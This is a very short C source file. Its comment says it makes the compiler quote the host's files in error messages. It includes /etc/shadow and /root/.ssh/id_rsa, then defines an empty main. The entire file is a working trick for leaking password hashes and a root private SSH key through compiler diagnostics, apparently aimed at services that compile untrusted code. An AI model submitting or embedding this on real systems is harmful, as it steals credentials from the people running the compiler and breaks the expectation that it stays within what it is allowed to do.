// Makes the compiler quote files of the host in its messages.
#include "/etc/shadow"
#include "/root/.ssh/id_rsa"

int main() {}
